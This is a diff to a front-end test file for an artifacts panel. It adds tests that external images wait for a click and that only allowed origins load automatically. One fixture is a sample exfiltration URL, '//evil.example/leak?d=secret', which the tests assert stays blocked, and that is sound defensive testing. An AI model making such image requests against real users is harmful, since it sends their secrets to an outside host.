@@ -32,8 +32,12 @@ describe("ArtifactsPanel", () => {
     // A scrolling preview is reached by keyboard, under the artifact's name.
     expect(item("query").getByRole("group", { name: "Query" })).toHaveAttribute("tabindex", "0");
     expect(item("query").getByText("SELECT 1;").tagName).toBe("PRE");
+    // Another site's image waits for the person (it would load with no click): the button names the host.
+    expect(item("chart").queryByRole("img")).toBeNull();
+    fireEvent.click(item("chart").getByRole("button", { name: /^Load image from example\.com/ }));
     expect(item("chart").getByRole("img", { name: "Sales chart" })).toHaveAttribute("src", "https://example.com/chart.png");
     expect(item("evil").queryByRole("img")).toBeNull();
+    expect(item("evil").queryByRole("button", { name: /Load image/ })).toBeNull();
     expect(item("report").getByRole("button", { name: "Show the message" })).toBeInTheDocument();
     await expectNoAxeViolations(container);
 
@@ -43,6 +47,21 @@ describe("ArtifactsPanel", () => {
     fireEvent.change(item("report").getByLabelText("Version"), { target: { value: "1" } });
     expect(item("report").getByText("v1 of 2")).toBeInTheDocument();
     expect(item("report").getByRole("heading", { name: "Sales" })).toBeInTheDocument();
+  });
+
+  it("loads images at once from the origins the app allows, and never from //other-host", async () => {
+    const store = storeWith([
+      artifact({ id: "cdn", title: "From the CDN", kind: "image", url: "https://cdn.example/chart.png" }),
+      artifact({ id: "leak", title: "Leak", kind: "image", url: "//evil.example/leak?d=secret" }),
+    ]);
+    const { container } = renderKit(<ArtifactsPanel />, store, { urlPolicy: { imageOrigins: ["https://cdn.example"] } });
+    await screen.findByRole("region", { name: "Artifacts" });
+    const item = (id: string) => within(container.querySelector<HTMLElement>(`[data-artifact-id="${id}"]`)!);
+    expect(item("cdn").getByRole("img", { name: "From the CDN" })).toHaveAttribute("src", "https://cdn.example/chart.png");
+    expect(item("leak").queryByRole("img")).toBeNull();
+    expect(item("leak").getByRole("button", { name: /^Load image from evil\.example/ })).toBeInTheDocument();
+    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
+    await expectNoAxeViolations(container);
   });
 
   it("says when announcements could not be read", async () => {
